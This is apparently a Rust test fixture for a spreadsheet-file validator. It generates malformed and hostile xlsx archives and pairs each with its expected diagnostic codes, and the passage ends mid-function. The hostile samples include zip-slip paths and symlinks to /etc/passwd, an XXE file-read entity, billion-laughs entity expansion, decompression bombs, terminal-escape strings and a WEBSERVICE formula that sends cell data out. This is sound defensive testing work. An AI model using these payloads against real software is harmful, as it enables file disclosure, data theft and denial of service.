//! The hostile files: each with the messages that it gives, none where it is read without harm.

use super::archive::{Archive, Entry, STORED, WIDE, Wide, deflated};
use super::workbook::{
    self, BOOK, BOOK_RELATIONS, MAIN, PROPERTIES, Parts, RELATIONS, ROOT_RELATIONS, SHEET, STYLES, TEXTS, TYPES, cooked,
};
use std::fmt::Write;

/// A file, made when it is needed.
pub struct Case {
    /// What is wrong with it.
    pub name: String,
    /// The codes of the messages that it gives; none where it does no harm.
    pub codes: Vec<&'static str>,
    /// Makes it.
    pub make: Box<dyn Fn() -> Vec<u8>>,
}

/// Files as large as may be, which take long to make and to read without optimisation.
pub fn largest() -> Vec<Case> {
    let mut cases = Vec::new();
    add(&mut cases, &[], "two sheets of empty cells, as large as may be", || {
        let mut row = String::new();
        let mut sheet = String::new();
        let mut number = 0;
        while sheet.len() < 62 << 20 {
            number += 1;
            row.clear();
            for column in 1..=300 {
                let name = guiju::diagnostic::cell_name(number, column);
                write!(row, "<c r=\"{name}\" s=\"{}\"/>", column % 3).expect("memory");
            }
            write!(sheet, "<row r=\"{number}\">{row}</row>").expect("memory");
        }
        let mut parts = Parts::plain();
        let book = parts.text(BOOK).replace("</sheets>", "<sheet name=\"b\" r:id=\"r9\"/></sheets>");
        let relations = parts.text(BOOK_RELATIONS).replace(
            "</Relationships>",
            &format!("<Relationship Id=\"r9\" Type=\"{RELATIONS}/worksheet\" Target=\"worksheets/sheet2.xml\"/></Relationships>"),
        );
        parts.set(BOOK, book).set(BOOK_RELATIONS, relations);
        parts.inside(SHEET, &sheet).inside("xl/worksheets/sheet2.xml", &sheet).bytes()
    });
    cases
}

/// All others.
pub fn all() -> Vec<Case> {
    let mut cases = Vec::new();
    recipes(&mut cases);
    other_files(&mut cases);
    headers(&mut cases);
    directories(&mut cases);
    names(&mut cases);
    bombs(&mut cases);
    xml(&mut cases);
    quantities(&mut cases);
    active_content(&mut cases);
    cases
}

fn add(cases: &mut Vec<Case>, codes: &[&'static str], name: &str, make: impl Fn() -> Vec<u8> + 'static) {
    cases.push(Case { name: name.to_owned(), codes: codes.to_vec(), make: Box::new(make) });
}

/// A file whose archive is changed.
fn changed(cases: &mut Vec<Case>, codes: &[&'static str], name: &str, change: impl Fn(&mut Archive) + 'static) {
    add(cases, codes, name, move || {
        let mut archive = Parts::plain().archive();
        change(&mut archive);
        archive.bytes()
    });
}

/// A file of which one part is changed.
fn part(
    cases: &mut Vec<Case>,
    codes: &[&'static str],
    name: &str,
    part: &'static str,
    content: impl Fn() -> String + 'static,
) {
    add(cases, codes, name, move || Parts::plain().inside(part, &content()).bytes());
}

/// A file of which one part is another text, without its root.
fn raw(
    cases: &mut Vec<Case>,
    codes: &[&'static str],
    name: &str,
    part: &'static str,
    content: impl Fn() -> Vec<u8> + 'static,
) {
    add(cases, codes, name, move || Parts::plain().set(part, content()).bytes());
}

/// Text that packs badly, the same every time.
fn noise(length: usize) -> String {
    String::from_utf8(workbook::noise(length)).expect("letters")
}

/// What is told in a few lines, as on the pages of messages: the codes, the name, the recipe.
const RECIPES: &[(&[&str], &str, &str)] = &[
    (&[], "plain", ""),
    (&["GJ4300"], "a table as text", "!text 名称,面积"),
    (&["GJ4300"], "a web page", "!text <html><table><tr><td>1</td></tr></table></html>"),
    (&["GJ4301"], "an encrypted workbook", "!compound EncryptedPackage"),
    (&["GJ4302"], "a workbook of Excel 97", "!compound Workbook"),
    (
        &["GJ4303"],
        "an OpenDocument file",
        "mimetype: application/vnd.oasis.opendocument.spreadsheet\ncontent.xml: <x/>",
    ),
    (&["GJ4304"], "a binary workbook", "xl/workbook.bin: x"),
    (&["GJ4305"], "no list of types", "!without [Content_Types].xml"),
    (&["GJ4305"], "no references of the package", "!without _rels/.rels"),
    (&["GJ4305"], "a reference to no workbook", "!without xl/workbook.xml"),
    (&["GJ4331"], "no sheet part", "!without xl/worksheets/sheet1.xml"),
    (&["GJ4331"], "no shared texts", "!without xl/sharedStrings.xml"),
    (&["GJ4331"], "no styles", "!without xl/styles.xml"),
    (&["GJ4331"], "no properties", "!without docProps/custom.xml"),
    (&["GJ4306"], "no sheets listed", "xl/workbook.xml: <sheets/>"),
    (&["GJ4331"], "a sheet that leads nowhere", "xl/workbook.xml: <sheets><sheet name=\"a\" r:id=\"none\"/></sheets>"),
    (
        &["GJ4341"],
        "two sheets of one name",
        "xl/workbook.xml: <sheets><sheet name=\"a\" r:id=\"r1\"/><sheet name=\"A\" r:id=\"r1\"/></sheets>",
    ),
    (&["GJ4342"], "a sheet without a name", "xl/workbook.xml: <sheets><sheet r:id=\"r1\"/></sheets>"),
    (
        &["GJ4342"],
        "a sheet with an endless name",
        "xl/workbook.xml: <sheets><sheet name=\"{长*200}\" r:id=\"r1\"/></sheets>",
    ),
    (&["GJ4318"], "an encrypted entry", "!encrypted xl/worksheets/sheet1.xml"),
    (&["GJ4319"], "packed by bzip2", "!method xl/worksheets/sheet1.xml 12"),
    (&["GJ4319"], "packed by deflate64", "!method xl/worksheets/sheet1.xml 9"),
    (&["GJ4319"], "packed by an unknown method", "!method xl/media/a.png 777\nxl/media/a.png: x"),
    (&["GJ4312"], "two entries of one name", "!twice xl/worksheets/sheet1.xml"),
    (
        &["GJ4312"],
        "two entries of one name, one in capitals",
        "!twice xl/worksheets/sheet1.xml\n!rename xl/worksheets/sheet1.xml XL/worksheets/Sheet1.XML",
    ),
    (&["GJ4313"], "two entries that share their bytes", "!overlap xl/worksheets/sheet1.xml"),
    (&["GJ4317"], "a wrong checksum", "!checksum xl/worksheets/sheet1.xml"),
    (&["GJ4316"], "broken data", "!broken xl/worksheets/sheet1.xml"),
    (&["GJ4317"], "larger than declared", "!claims xl/worksheets/sheet1.xml 10"),
    (&["GJ4317"], "smaller than declared", "!claims xl/worksheets/sheet1.xml 100000"),
    (&[], "a stored part", "!stored xl/worksheets/sheet1.xml"),
    (&["GJ4321"], "entries beyond counting", "!entries 2000"),
    (&[], "many entries", "!entries 1900"),
    (&[], "a comment", "!comment 说明"),
    (&[], "a gap before the directory", "!padding 5000"),
    (&["GJ4315"], "something behind", "!behind <script>"),
    (&["GJ4314"], "cut in the last record", "!cut 1"),
    (&["GJ4314"], "cut in the directory", "!cut 200"),
    (&["GJ4310"], "a document type in a sheet", "xl/worksheets/sheet1.xml: <!DOCTYPE x><row/>"),
    (&["GJ4325"], "a repeated attribute", "xl/worksheets/sheet1.xml: <row><c r=\"A1\" r=\"A2\"><v>1</v></c></row>"),
    (&["GJ4325"], "a forbidden character", "xl/worksheets/sheet1.xml: <row><c t=\"str\"><v>a&#1;b</v></c></row>"),
    (&["GJ4325"], "no character at all", "xl/worksheets/sheet1.xml: <row><c t=\"str\"><v>&#xFFFFFFFF;</v></c></row>"),
    (&["GJ4325"], "half a character", "xl/worksheets/sheet1.xml: <row><c t=\"str\"><v>&#xD800;</v></c></row>"),
    (
        &["GJ4310"],
        "an entity that is not declared",
        "xl/worksheets/sheet1.xml: <row><c t=\"str\"><v>&xxe;</v></c></row>",
    ),
    (&["GJ4325"], "an entity in an attribute", "xl/worksheets/sheet1.xml: <row><c r=\"&xxe;\"><v>1</v></c></row>"),
    (&["GJ4325"], "tags that cross", "xl/worksheets/sheet1.xml: <row><c><v>1</c></v></row>"),
    (&["GJ4327"], "a nest of elements", "xl/worksheets/sheet1.xml: <row/>{<a>*100}{</a>*100}"),
    (
        &["GJ4328"],
        "a hundred attributes",
        "xl/worksheets/sheet1.xml: <row><c a1=\"\" a2=\"\" a3=\"\" a4=\"\" a5=\"\" a6=\"\" a7=\"\" a8=\"\" a9=\"\" b1=\"\" b2=\"\" b3=\"\" b4=\"\" b5=\"\" b6=\"\" b7=\"\" b8=\"\" b9=\"\" c1=\"\" c2=\"\" c3=\"\" c4=\"\" c5=\"\" c6=\"\" c7=\"\" c8=\"\" c9=\"\" d1=\"\" d2=\"\" d3=\"\" d4=\"\" d5=\"\" d6=\"\" d7=\"\" d8=\"\" d9=\"\" e1=\"\" e2=\"\" e3=\"\" e4=\"\" e5=\"\" e6=\"\" e7=\"\" e8=\"\" e9=\"\" f1=\"\" f2=\"\" f3=\"\" f4=\"\" f5=\"\" f6=\"\" f7=\"\" f8=\"\" f9=\"\" g1=\"\" g2=\"\" g3=\"\" g4=\"\" g5=\"\" g6=\"\" g7=\"\" g8=\"\" g9=\"\" h1=\"\" h2=\"\"/></row>",
    ),
    (&[], "markup as text", "xl/worksheets/sheet1.xml: <row><c t=\"str\"><v><![CDATA[<v>1</v>]]></v></c></row>"),
    (
        &[],
        "an element of another namespace",
        "xl/worksheets/sheet1.xml: <row><c><e:v xmlns:e=\"e\">9</e:v><v>1</v><v xmlns=\"e\">9</v></c></row>",
    ),
    (
        &[],
        "instructions and comments",
        "xl/worksheets/sheet1.xml: <row><!-- <v>9</v> --><c><?x y?><v>1<!-- 2 --></v></c></row>",
    ),
    (&["GJ4338"], "no number", "xl/worksheets/sheet1.xml: <row><c><v>NaN</v></c></row>"),
    (&["GJ4338"], "infinity", "xl/worksheets/sheet1.xml: <row><c><v>-INF</v></c></row>"),
    (&["GJ4338"], "an absurd exponent", "xl/worksheets/sheet1.xml: <row><c><v>1E308</v></c></row>"),
    (
        &["GJ4338"],
        "an exponent beyond counting",
        "xl/worksheets/sheet1.xml: <row><c><v>1e99999999999999999999</v></c></row>",
    ),
    (&["GJ4338"], "a number of many digits", "xl/worksheets/sheet1.xml: <row><c><v>{9*100000}</v></c></row>"),
    (&["GJ4338"], "a text as a number", "xl/worksheets/sheet1.xml: <row><c><v>80㎡</v></c></row>"),
    (&["GJ4339"], "a shared text that is not there", "xl/worksheets/sheet1.xml: <row><c t=\"s\"><v>1</v></c></row>"),
    (&["GJ4339"], "a negative shared text", "xl/worksheets/sheet1.xml: <row><c t=\"s\"><v>-1</v></c></row>"),
    (
        &["GJ4339"],
        "a shared text beyond counting",
        "xl/worksheets/sheet1.xml: <row><c t=\"s\"><v>99999999999999999999999</v></c></row>",
    ),
    (&["GJ4339"], "a format that is not there", "xl/worksheets/sheet1.xml: <row><c s=\"3\"><v>1</v></c></row>"),
    (&["GJ4340"], "neither true nor false", "xl/worksheets/sheet1.xml: <row><c t=\"b\"><v>2</v></c></row>"),
    (&["GJ4340"], "an unknown type", "xl/worksheets/sheet1.xml: <row><c t=\"x\"><v>1</v></c></row>"),
    (&["GJ4340"], "an endless error", "xl/worksheets/sheet1.xml: <row><c t=\"e\"><v>#{N*1000}</v></c></row>"),
    (
        &["GJ4336"],
        "a column beyond the last",
        "xl/worksheets/sheet1.xml: <row r=\"1\"><c r=\"XFE1\"><v>1</v></c></row>",
    ),
    (
        &["GJ4336"],
        "a column beyond counting",
        "xl/worksheets/sheet1.xml: <row r=\"1\"><c r=\"{Z*5000}1\"><v>1</v></c></row>",
    ),
    (&["GJ4336"], "row 0", "xl/worksheets/sheet1.xml: <row r=\"0\"><c><v>1</v></c></row>"),
    (&["GJ4336"], "a row beyond the last", "xl/worksheets/sheet1.xml: <row r=\"1048577\"><c><v>1</v></c></row>"),
    (&["GJ4336"], "a row beyond counting", "xl/worksheets/sheet1.xml: <row r=\"99999999999\"><c><v>1</v></c></row>"),
    (&["GJ4336"], "a row behind the last", "xl/worksheets/sheet1.xml: <row r=\"1048576\"/><row><c><v>1</v></c></row>"),
    (&["GJ4336"], "a cell of another row", "xl/worksheets/sheet1.xml: <row r=\"1\"><c r=\"A2\"><v>1</v></c></row>"),
    (
        &["GJ4336"],
        "a merged area upside down",
        "xl/worksheets/sheet1.xml: <row/><mergeCells><mergeCell ref=\"B2:A1\"/></mergeCells>",
    ),
    (
        &["GJ4336"],
        "a merged area without a place",
        "xl/worksheets/sheet1.xml: <row/><mergeCells><mergeCell/></mergeCells>",
    ),
    (
        &[],
        "everything merged",
        "xl/worksheets/sheet1.xml: <row/><mergeCells><mergeCell ref=\"A1:XFD1048576\"/></mergeCells>",
    ),
    (
        &["GJ4337"],
        "two values of a cell",
        "xl/worksheets/sheet1.xml: <row><c r=\"A1\"><v>1</v></c><c r=\"A1\"><v>2</v></c></row>",
    ),
    (
        &["GJ4337"],
        "two values of a cell in two rows",
        "xl/worksheets/sheet1.xml: <row r=\"1\"><c r=\"A1\"><v>1</v></c></row><row r=\"1\"><c r=\"A1\"><v>2</v></c></row>",
    ),
    (
        &["GJ4337"],
        "two values of a cell by counting",
        "xl/worksheets/sheet1.xml: <row><c r=\"B1\"><v>1</v></c><c r=\"A1\"><v>2</v></c><c><v>3</v></c></row>",
    ),
    (
        &[],
        "cells out of order",
        "xl/worksheets/sheet1.xml: <row r=\"9\"><c r=\"C9\"><v>1</v></c><c r=\"A9\"><v>2</v></c></row><row r=\"2\"><c r=\"A2\"><v>3</v></c></row>",
    ),
    (
        &["GJ4334"],
        "a text that is too long",
        "xl/worksheets/sheet1.xml: <row><c t=\"inlineStr\"><is><t>{长*32768}</t></is></c></row>",
    ),
    (&[], "the longest text", "xl/worksheets/sheet1.xml: <row><c t=\"inlineStr\"><is><t>{长*32767}</t></is></c></row>"),
    (
        &["GJ4334"],
        "a shared text that is too long",
        "xl/sharedStrings.xml: <si><r><t>{长*20000}</t></r><r><t>{长*20000}</t></r></si>",
    ),
    (
        &["GJ4334"],
        "a shared text that is far too long",
        "xl/sharedStrings.xml: <si>{<r><t>长长长长长长长长长长</t></r>*20000}</si>",
    ),
    (
        &["GJ4334"],
        "a text of escapes that is too long",
        "xl/worksheets/sheet1.xml: <row><c t=\"str\"><v>{_x0041_*32768}</v></c></row>",
    ),
    (
        &["GJ4335"],
        "a name for a text that is too long",
        "xl/workbook.xml: <sheets><sheet name=\"a\" r:id=\"r1\"/></sheets><definedNames><definedName name=\"n\">{长*32768}</definedName></definedNames>",
    ),
    (
        &["GJ4341"],
        "two defined names alike",
        "xl/workbook.xml: <sheets><sheet name=\"a\" r:id=\"r1\"/></sheets><definedNames><definedName name=\"n\">1</definedName><definedName name=\"n\">2</definedName></definedNames>",
    ),
    (
        &["GJ4341"],
        "two properties alike",
        "docProps/custom.xml: <property name=\"n\"><vt:lpwstr>1</vt:lpwstr></property><property name=\"n\"><vt:lpwstr>2</vt:lpwstr></property>",
    ),
    (&["GJ4332"], "formats beyond counting", "xl/styles.xml: <cellXfs>{<xf/>*100000}</cellXfs>"),
    (
        &["GJ4332"],
        "number formats beyond counting",
        "xl/styles.xml: <numFmts>{<numFmt/>*5000}</numFmts><cellXfs><xf/></cellXfs>",
    ),
    (
        &[],
        "an endless format code",
        "xl/styles.xml: <numFmts><numFmt numFmtId=\"200\" formatCode=\"{[h]*100000}\"/></numFmts><cellXfs><xf numFmtId=\"200\"/></cellXfs>",
    ),
    (&[], "a dimension that lies", "xl/worksheets/sheet1.xml: <row/><dimension ref=\"A1:XFD1048576\"/>"),
    (
        &[],
        "a formula that steals",
        "xl/worksheets/sheet1.xml: <row><c t=\"str\"><f>WEBSERVICE(\"http://x/\"&amp;A1)</f><v>80</v></c></row>",
    ),
    (
        &[],
        "values that steer a terminal",
        "xl/worksheets/sheet1.xml: <row><c t=\"str\"><v>_x001B_[31m&#x202E;</v></c></row>",
    ),
    (
        &["GJ4340"],
        "problems that steer a terminal",
        "xl/worksheets/sheet1.xml: <row><c t=\"b\"><v>&#x9B;31m&#x202E;_x001B_</v></c></row>",
    ),
    (&["GJ4338", "GJ4343"], "problems beyond reading", "xl/worksheets/sheet1.xml: {<row><c><v>x</v></c></row>*5000}"),
    (
        &["GJ4337", "GJ4343"],
        "many values of one cell",
        "xl/worksheets/sheet1.xml: <row>{<c r=\"A1\"><v>1</v></c>*5000}</row>",
    ),
];

fn recipes(cases: &mut Vec<Case>) {
    for (codes, name, recipe) in RECIPES {
        add(cases, codes, name, || cooked(recipe));
    }
}

/// Files that are something else.
fn other_files(cases: &mut Vec<Case>) {
    add(cases, &["GJ4300"], "nothing", Vec::new);
    add(cases, &["GJ4300"], "a packed file of another kind", || b"\x1F\x8B\x08\0\0\0\0\0".to_vec());
    add(cases, &["GJ4300"], "a document to print", || b"%PDF-1.7\n".to_vec());
    add(cases, &["GJ4300"], "noise", || noise(5_000).into_bytes());
    add(cases, &["GJ4300"], "an empty archive", || Archive::default().bytes());
    add(cases, &["GJ4300"], "an archive behind a program", || {
        Archive { before: b"MZ\x90\0".to_vec(), ..Parts::plain().archive() }.bytes()
    });
    add(cases, &["GJ4302"], "the first bytes of a workbook of Excel 97", || {
        b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec()
    });
    add(cases, &["GJ4314"], "the first bytes of an archive", || b"PK\x03\x04".to_vec());
    add(cases, &["GJ4314"], "half a workbook", || {
        let mut bytes = Parts::plain().bytes();
        bytes.truncate(bytes.len() / 2);
        bytes
    });
    add(cases, &["GJ4305"], "an archive of something else", || Archive::of(vec![Entry::new("a.txt", b"a")]).bytes());
    add(cases, &["GJ4305"], "a text document", || {
        let mut parts = Parts::plain();
        parts.remove(BOOK).remove(PROPERTIES).inside(
            ROOT_RELATIONS,
            "<Relationship Id=\"r1\" Type=\"{R}/officeDocument\" Target=\"word/document.xml\"/>",
        );
        parts.set(
            "word/document.xml",
            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>",
        );
        parts.bytes()
    });
    add(cases, &["GJ4306"], "only a chart", || {
        let mut parts = Parts::plain();
        let relations = parts.text(BOOK_RELATIONS).replace("/worksheet\"", "/chartsheet\"");
        parts.set(BOOK_RELATIONS, relations).bytes()
    });
    add(cases, &["GJ4320"], "a file beyond the limit", || {
        Parts::plain().set("xl/media/a.png", noise(30 << 20)).bytes()
    });
    add(cases, &[], "an archive in the archive", || {
        let inner = Parts::plain().bytes();
        Parts::plain().set("xl/media/a.xlsx", inner).bytes()
    });
}

/// Entries whose headers lie.
fn headers(cases: &mut Vec<Case>) {
    changed(cases, &["GJ4314"], "another name in the entry", |archive| {
        archive.entry(SHEET).local_name = b"xl/worksheets/sheet9.xml".to_vec();
    });
    changed(cases, &["GJ4314"], "another size in the entry", |archive| archive.entry(SHEET).local_size += 1);
    changed(cases, &["GJ4317"], "larger than declared by one", |archive| {
        let entry = archive.entry(SHEET);
        *entry = entry.clone().sized(entry.size - 1);
    });
    changed(cases, &["GJ4317"], "smaller than declared by one", |archive| {
        let entry = archive.entry(SHEET);
        *entry = entry.clone().sized(entry.size + 1);
    });
    changed(cases, &["GJ4316"], "packed data cut off", |archive| {
        let entry = archive.entry(SHEET);
        *entry = entry.clone().repacked(entry.packed[..40].to_vec());
    });
    changed(cases, &["GJ4316"], "no packed data", |archive| {
        let entry = archive.entry(SHEET);
        *entry = entry.clone().repacked(Vec::new());
    });
    changed(cases, &["GJ4317"], "stored, but of another size", |archive| {
        let entry = archive.entry(SHEET);
        entry.method = STORED;
    });
    changed(cases, &[], "sizes behind the data", |archive| {
        archive.entries = archive.entries.iter().cloned().map(Entry::streamed).collect();
    });
    changed(cases, &[], "sizes of 64 bits behind the data", |archive| {
        archive.entries = archive.entries.iter().cloned().map(Entry::streamed_wide).collect();
        archive.wide = Some(Wide::default());
    });
    changed(cases, &["GJ4314"], "sizes behind the data of which the entry knows nothing", |archive| {
        let entry = archive.entry(SHEET);
        *entry = Entry { flags: 0, ..entry.clone().streamed() };
    });
    changed(cases, &["GJ4322"], "a size of 64 bits", |archive| {
        let entry = archive.entry(SHEET);
        (entry.size, entry.local_size) = (WIDE, WIDE);
        entry.extra = [&[1, 0, 8, 0][..], &(1u64 << 60).to_le_bytes()].concat();
        entry.local_extra = [entry.extra.as_slice(), &0u64.to_le_bytes()].concat();
        entry.local_extra[2] = 16;
    });
    changed(cases, &["GJ4314"], "a size of 64 bits that is not there", |archive| {
        let entry = archive.entry(SHEET);
        (entry.size, entry.local_size) = (WIDE, WIDE);
        entry.extra = vec![1, 0];
    });
    changed(cases, &[], "an extra field that nobody knows", |archive| {
        archive.entry(SHEET).extra = vec![0xAD, 0xDE, 4, 0, 1, 2, 3, 4];
    });
    changed(cases, &["GJ4318"], "encrypted by AES", |archive| {
        let entry = archive.entry(SHEET);
        (entry.flags, entry.method) = (1, 99);
    });
    changed(cases, &["GJ4318", "GJ4319", "GJ4311"], "everything wrong with the entries", |archive| {
        archive.entry(SHEET).flags |= 1;
        archive.entry(STYLES).method = 12;
        archive.entries.push(Entry::new("../x", b"x"));
    });
}

/// Archives whose directories lie.
fn directories(cases: &mut Vec<Case>) {
    changed(cases, &["GJ4314"], "a directory of fewer entries", |archive| archive.count = Some(3));
    changed(cases, &["GJ4314"], "a directory of more entries", |archive| archive.count = Some(30));
    changed(cases, &["GJ4314"], "a directory of no entries", |archive| archive.count = Some(0));
    changed(cases, &["GJ4314"], "a directory that begins earlier", |archive| archive.start = Some(100));
    changed(cases, &["GJ4314"], "a directory beyond the end", |archive| archive.start = Some(0x7FFF_FFFF));
    changed(cases, &["GJ4314"], "a directory that is longer", |archive| archive.length = Some(5_000));
    changed(cases, &["GJ4314"], "a directory that is shorter", |archive| archive.length = Some(46));
    changed(cases, &["GJ4314"], "a second volume", |archive| archive.disk = 1);
    changed(cases, &["GJ4314"], "an entry in the middle of another", |archive| archive.entry(SHEET).offset = Some(77));
    changed(cases, &["GJ4314"], "an entry beyond the end", |archive| archive.entry(SHEET).offset = Some(0x7FFF_FFFF));
    changed(cases, &["GJ4314"], "an entry in the directory", |archive| {
        let start = archive.bytes().len() - 300;
        archive.entry(SHEET).offset = u32::try_from(start).ok();
    });
    changed(cases, &["GJ4314"], "an entry that is only listed", |archive| {
        let last = archive.entries.last_mut().expect("an entry");
        last.there = false;
    });
    changed(cases, &["GJ4314"], "an entry that is not listed", |archive| {
        archive.entries.push(Entry { listed: false, ..Entry::new("xl/media/hidden.xml", b"<x/>") });
    });
    changed(cases, &["GJ4314"], "an entry hidden in a gap", |archive| {
        let hidden = Archive::of(vec![Entry::new("xl/media/hidden.xml", noise(100_000).as_bytes())]);
        archive.between = hidden.bytes();
    });
    changed(cases, &["GJ4313"], "an entry that reaches into the directory", |archive| {
        let last = archive.entries.last_mut().expect("an entry");
        last.packed_size += 50;
        last.local_packed_size += 50;
    });
    changed(cases, &["GJ4313"], "an entry quoted in another", |archive| {
        // Its data are a stored block of the packed format that holds the next entry as a whole.
        let inner = Archive::of(vec![Entry::new("xl/media/kernel", noise(1_000).as_bytes())]).bytes();
        let length = u16::try_from(inner.len()).expect("a length that fits");
        let mut packed = vec![1];
        packed.extend(length.to_le_bytes());
        packed.extend((!length).to_le_bytes());
        packed.extend(&inner);
        let (_, crc) = deflated(&inner);
        archive.entries.insert(0, Entry::packed("xl/media/quote", packed, crc, inner.len()));
        let quoted =
            Entry { there: false, offset: Some(30 + 14 + 5), ..Entry::new("xl/media/kernel", noise(1_000).as_bytes()) };
        archive.entries.push(quoted);
    });
    changed(cases, &["GJ4315"], "a comment that is said to be longer", |archive| archive.comment_length = Some(9));
    changed(cases, &["GJ4315"], "a comment that is said to be shorter", |archive| {
        archive.comment = b"comment".to_vec();
        archive.comment_length = Some(3);
    });
    add(cases, &["GJ4314"], "an end within the comment", || {
        let end = Archive::default().bytes();
        Archive { comment: end, ..Parts::plain().archive() }.bytes()
    });
    add(cases, &["GJ4314"], "another archive as the comment", || {
        let other = Parts::plain().set("xl/media/x", "x").bytes();
        Archive { comment: other, ..Parts::plain().archive() }.bytes()
    });
    add(cases, &["GJ4315"], "many ends", || {
        let mut archive = Parts::plain().archive();
        archive.behind = Archive::default().bytes().repeat(1_000);
        archive.behind.push(0);
        archive.bytes()
    });
    changed(cases, &[], "wide fields", |archive| archive.wide = Some(Wide::default()));
    changed(cases, &["GJ4321"], "a wide count beyond counting", |archive| {
        archive.wide = Some(Wide { count: Some(1 << 40), ..Wide::default() });
    });
    changed(cases, &["GJ4321"], "the widest count", |archive| {
        archive.wide =
            Some(Wide { count: Some(u64::MAX), length: Some(u64::MAX), start: Some(u64::MAX), record: None });
    });
    changed(cases, &["GJ4314"], "a wide start that lies", |archive| {
        archive.wide = Some(Wide { start: Some(0), ..Wide::default() });
    });
    changed(cases, &["GJ4314"], "a wide start beyond counting", |archive| {
        archive.wide = Some(Wide { start: Some(u64::MAX - 5), ..Wide::default() });
    });
    changed(cases, &["GJ4314"], "a wide record elsewhere", |archive| {
        archive.wide = Some(Wide { record: Some(4), ..Wide::default() });
    });
    changed(cases, &["GJ4314"], "a wide record beyond counting", |archive| {
        archive.wide = Some(Wide { record: Some(u64::MAX), ..Wide::default() });
    });
    changed(cases, &["GJ4314"], "wide fields without a record", |archive| {
        (archive.count, archive.start) = (Some(u16::MAX), Some(WIDE));
    });
}

/// Names that lead somewhere else.
fn names(cases: &mut Vec<Case>) {
    let wrong: [(&str, &[u8]); 14] = [
        ("above", b"../../etc/passwd"),
        ("from the root", b"/etc/passwd"),
        ("by a backslash", b"xl\\..\\..\\x"),
        ("of a drive", b"C:/x"),
        ("of a stream", b"xl/x.xml:hidden"),
        ("with a zero", b"xl/x.xml\0.png"),
        ("with a dot", b"xl/./x.xml"),
        ("above from inside", b"xl/../../x.xml"),
        ("with nothing between", b"xl//x.xml"),
        ("with a line break", b"xl/x\n.xml"),
        ("that steers a terminal", b"xl/\x1B[2J.xml"),
        ("in another encoding", b"xl/\xB4\xF3.xml"),
        ("of nothing", b""),
        ("of a slash", b"/"),
    ];
    for (name, bytes) in wrong {
        changed(cases, &["GJ4311"], &format!("a name {name}"), move |archive| {
            archive.entries.push(Entry::new("x", b"x").named(bytes));
        });
    }
    changed(cases, &["GJ4311"], "an endless name", |archive| {
        archive.entries.push(Entry::new("x", b"x").named(&b"x/".repeat(5_000)));
    });
    changed(cases, &["GJ4311"], "endless names everywhere", |archive| {
        let names = (0..100u8).map(|number| Entry::new("x", b"x").named(&vec![0x80 + number; 65_000]));
        archive.entries.extend(names);
    });
    changed(cases, &["GJ4311"], "a link of the file system", |archive| {
        archive.entries.push(Entry {
            made_by: 0x0314,
            attributes: 0o120_777 << 16,
            ..Entry::new("xl/link", b"/etc/passwd")
        });
    });
    changed(cases, &[], "folders", |archive| {
        archive.entries.insert(0, Entry { method: STORED, ..Entry::new("xl/", b"").repacked(Vec::new()) });
    });
}

/// Small files that become large.
fn bombs(cases: &mut Vec<Case>) {
    raw(cases, &["GJ4322"], "a part that becomes larger than allowed", SHEET, || vec![b' '; 65 << 20]);
    raw(cases, &["GJ4324"], "a part of blanks", SHEET, || vec![b' '; 5 << 20]);
    raw(cases, &["GJ4324"], "a picture of nothing", "xl/media/a.bmp", || vec![0; 20 << 20]);
    changed(cases, &["GJ4323"], "many parts that become large together", |archive| {
        for number in 0..40 {
            let picture = Entry::new(&format!("xl/media/{number}"), noise(40_000).as_bytes());
            archive.entries.push(picture.sized(4 << 20));
        }
    });
    changed(cases, &["GJ4317"], "a bomb that says it is small", |archive| {
        let (packed, crc) = deflated(&vec![b' '; 60 << 20]);
        *archive.entry(SHEET) = Entry::packed(SHEET, packed, crc, 1_000);
    });
    raw(cases, &["GJ4329"], "a comment without an end", SHEET, || format!("<!--{}", noise(3 << 20)).into_bytes());
    part(cases, &["GJ4329"], "a long comment", SHEET, || format!("<row/><!--{}-->", noise(3 << 20)));
    part(cases, &["GJ4329"], "a long attribute", SHEET, || format!("<row><c r=\"{}\"/></row>", noise(3 << 20)));
    part(cases, &["GJ4329"], "a long name", SHEET, || format!("<row/><{}/>", noise(3 << 20)));
    part(cases, &["GJ4329"], "a long value", SHEET, || format!("<row><c><v>{}</v></c></row>", noise(3 << 20)));
    part(cases, &["GJ4329"], "a long instruction", SHEET, || format!("<row/><?x {}?>", noise(3 << 20)));
    part(cases, &["GJ4329"], "long character data", SHEET, || {
        format!("<row><c><v><![CDATA[{}]]></v></c></row>", noise(3 << 20))
    });
    part(cases, &["GJ4329"], "blanks without an end", SHEET, || {
        let blanks: String = noise(3 << 20).chars().map(|c| if c < 'n' { ' ' } else { '\n' }).collect();
        format!("<row/>{blanks}<row/>")
    });
    part(cases, &["GJ4334"], "a text in many pieces", SHEET, || {
        format!("<row><c t=\"str\"><v>{}</v></c></row>", format!("{}&amp;", noise(1_000)).repeat(3_000))
    });
    part(cases, &["GJ4327"], "a hundred thousand elements inside each other", SHEET, || {
        let names: Vec<String> = (0..100_000).map(|number| format!("a{number}")).collect();
        names.iter().fold("<row/>".to_owned(), |text, name| text + "<" + name + ">")
    });
}

/// Parts that are not the XML they should be.
fn xml(cases: &mut Vec<Case>) {
    let laughs = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><x>&c;</x>";
    let files = "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>";
    for file in [SHEET, TEXTS, STYLES, BOOK, BOOK_RELATIONS, ROOT_RELATIONS, TYPES, PROPERTIES] {
        raw(cases, &["GJ4310"], &format!("entities of entities in {file}"), file, || laughs.into());
        raw(cases, &["GJ4310"], &format!("a file of the machine in {file}"), file, || files.into());
        raw(cases, &["GJ4325"], &format!("nothing in {file}"), file, Vec::new);
        raw(cases, &["GJ4325"], &format!("noise in {file}"), file, || noise(10_000).into_bytes());
    }
    for file in [SHEET, TEXTS, STYLES, BOOK_RELATIONS, TYPES, PROPERTIES] {
        raw(cases, &["GJ4330"], &format!("another root in {file}"), file, || {
            b"<html xmlns=\"http://www.w3.org/1999/xhtml\"/>".to_vec()
        });
    }
    raw(cases, &["GJ4305"], "another root in the workbook", BOOK, || b"<html/>".to_vec());
    let sheet = |content: &str| format!("<worksheet xmlns=\"{MAIN}\">{content}</worksheet>");
    let one = "<sheetData><row><c><v>1</v></c></row></sheetData>";
    raw(cases, &["GJ4330"], "no namespace", SHEET, || b"<worksheet><sheetData/></worksheet>".to_vec());
